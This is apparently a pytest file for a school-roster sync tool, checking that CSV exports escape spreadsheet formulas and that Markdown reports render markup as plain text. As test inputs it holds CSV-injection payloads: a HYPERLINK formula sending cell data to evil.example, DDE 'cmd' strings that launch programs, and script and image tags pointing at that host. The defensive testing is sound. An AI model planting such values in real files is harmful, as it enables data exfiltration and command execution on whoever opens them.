"""Spreadsheets and reports: values that run as formulas, or become links, where they are opened."""

import csv
import io
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ops.cli.sync_output import write_faults
from ops.reports.failures_csv import write_failures
from ops.reports.markdown import as_text, page_of, title_of
from ops.reports.report import Report
from producers.files.csv_formulas import SafeWriter, guarded, unguarded
from producers.files.table import read_grid
from producers.oneroster.applying.passwords import Rule
from producers.oneroster.reading.row_errors import RowFault, Severity
from producers.oneroster.roster import Person, Role
from tests.redis_server import SharedRedis
from tests.unit.ledger.hands import ENTRY, REFUSED, settled
from tests.unit.stage import RING
from worker.errors import InvalidInputError
from worker.ledger.batch import BatchInfo, mark_of_file
from worker.ledger.schedule_models import Run, RunState
from worker.ledger.store import RedisLedger

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A2,"see")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C x'!A0",
    "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", '"=1', "'=1", "''=1", "\uff1d1+1", "\uff0bx", "|x",
]  # fmt: skip


@pytest.fixture
def ledger(server: SharedRedis) -> RedisLedger:
    """An empty ledger."""
    return RedisLedger(server.client())


def cells_of(text: str) -> list[str]:
    """What a spreadsheet finds in the second row."""
    _, row = csv.reader(io.StringIO(text, newline=""))
    return row


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would compute it: what counts is how it begins."""
    return bool(re.match(r"[\s\"]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]|[\t\r\n]", cell))


@pytest.mark.parametrize("evil", FORMULAS)
def test_a_formula_in_a_failure_is_text_and_comes_back_as_it_was(
    evil: str, ledger: RedisLedger, tmp_path: Path
) -> None:
    """A parent who is called `=HYPERLINK(...)` in the SIS sent the school's list away."""
    fail(ledger, {"telephone": "13800000002", "nickname": evil})
    path = tmp_path / "mend.csv"
    write_failures(ledger, "b", path, None, RING)
    text = path.read_text(encoding="utf-8-sig")
    assert not any(map(is_formula, cells_of(text)))
    grid = read_grid(path.read_bytes())
    assert grid.rows[0].cells[grid.header.index("nickname")] == evil


def fail(ledger: RedisLedger, fields: dict[str, str], message: str = "no") -> None:
    """Let an operation of a batch fail."""
    ledger.batches.open("b", BatchInfo())
    ledger.submit([replace(ENTRY, operation="register", fields=fields, row=2)])
    settled(ledger, "a", replace(REFUSED, message=message))


def test_what_classin_said_is_no_formula_and_no_control_character(
    ledger: RedisLedger, tmp_path: Path
) -> None:
    """ClassIn, or who pretends to be it, writes into the column of reasons."""
    fail(ledger, {"telephone": "13800000002"}, '=1\x1b[2J\n"=2')
    path = tmp_path / "mend.csv"
    write_failures(ledger, "b", path, None, RING)
    assert "'=1\\x1b[2J\\n\"=2" in cells_of(path.read_text(encoding="utf-8-sig"))


def test_a_cell_of_the_sheet_itself_is_text_in_the_table_of_failures(
    ledger: RedisLedger, tmp_path: Path
) -> None:
    """The sheet's own columns go back as they stood, remarks of strangers among them."""
    sheet = tmp_path / "people.csv"
    sheet.write_text("Phone,Remark,Points\n13800000002,=1+1,-5\n", encoding="utf-8")
    about = BatchInfo(
        path=str(sheet),
        digest=mark_of_file(RING, sheet.read_bytes()),
        columns={"telephone": "Phone"},
    )
    ledger.batches.open("b", about)
    ledger.submit([replace(ENTRY, operation="register", fields={"telephone": "1"}, row=2)])
    settled(ledger, "a", REFUSED)
    path = tmp_path / "mend.csv"
    write_failures(ledger, "b", path, None, RING)
    assert cells_of(path.read_text(encoding="utf-8-sig"))[1:4] == ["13800000002", "'=1+1", "-5"]


@pytest.mark.parametrize(
    "write",
    [
        lambda file: SafeWriter(file).writerows([["a"], [FORMULAS[0]]]),
        lambda file: write_faults(
            [RowFault("users.csv", 2, "name", FORMULAS[0], Severity.LEFT_OUT, FORMULAS[0])], file
        ),
    ],
)
def test_each_table_that_is_written_has_no_formula(write: Callable[[io.StringIO], None]) -> None:
    """`ls --csv`, `--errors` and `--passwords` are opened in spreadsheets as well."""
    file = io.StringIO()
    write(file)
    assert not any(map(is_formula, cells_of(file.getvalue())))


def test_every_csv_is_written_by_one_writer() -> None:
    """A table of tomorrow that is written by `csv` itself would have formulas again."""
    for path in (*Path("ops").rglob("*.py"), *Path("producers").rglob("*.py")):
        if path.name != "csv_formulas.py" and "simulator" not in path.parts:
            assert not re.search(r"\bcsv\.(DictW|w)riter\(", path.read_text("utf-8")), path


@pytest.mark.parametrize("plain", ["-5", "+8613800000001", "-1.5", "0", "a=b", "课程", "", "5"])
def test_numbers_and_honest_text_stay_as_they_are(plain: str) -> None:
    """A plain number computes to itself."""
    assert guarded(plain) == plain
    assert guarded(-5) == -5


@given(st.text(alphabet="'\"=+-@ \t\n1a|;,", max_size=8))
def test_reading_gives_back_what_was_written(text: str) -> None:
    """Whatever a cell holds, apostrophes of its own among it."""
    written = guarded(text)
    assert isinstance(written, str)
    assert unguarded(written) == text
    assert not is_formula(written) or re.fullmatch(r"[+-]?\d+", written)


def test_a_semicolon_begins_no_cell() -> None:
    """Where semicolons part columns, `x;=1` in a table with commas were two cells."""
    file = io.StringIO()
    SafeWriter(file).writerows([["a"], ["x;=1+1"]])
    assert file.getvalue().splitlines()[1] == '"x;=1+1"'


def test_no_password_begins_like_a_formula() -> None:
    """An apostrophe in front of a password would be handed out with it."""
    person = Person("1", "a@example.org", "Ann", Role.STUDENT)
    with pytest.raises(InvalidInputError, match="takes for a formula"):
        Rule("=Hello-{id}").password(person)


EVIL = (
    "<script>x</script> [see](http://evil.example) ![i](http://evil.example/i.png) | *b* `c`\n# h"
)


def test_a_report_shows_markup_as_text() -> None:
    """A job's last line, or ClassIn's words, became a link or HTML in the head teacher's mail."""
    shown = as_text(EVIL)
    assert "\n" not in shown
    assert "<" not in shown
    assert not re.search(r"(?<!\\)[\[\]`|*!]", shown)
    run = Run(
        id="x", job=EVIL, tick=1, words=(), state=RunState.FAILED, recorded_at=1, trouble=EVIL
    )
    report = Report(
        since=0, until=1, known_since=0, runs=[run], groups=[], lanes=[], closures=[],
        settled={}, waiting={}, oldest=None,
    )  # fmt: skip
    page = page_of(report, str)
    assert title_of(report) in page
    assert f"**{shown}** 1: failed" in page
    assert page.count("\n# ") == 0
    assert "<script" not in page
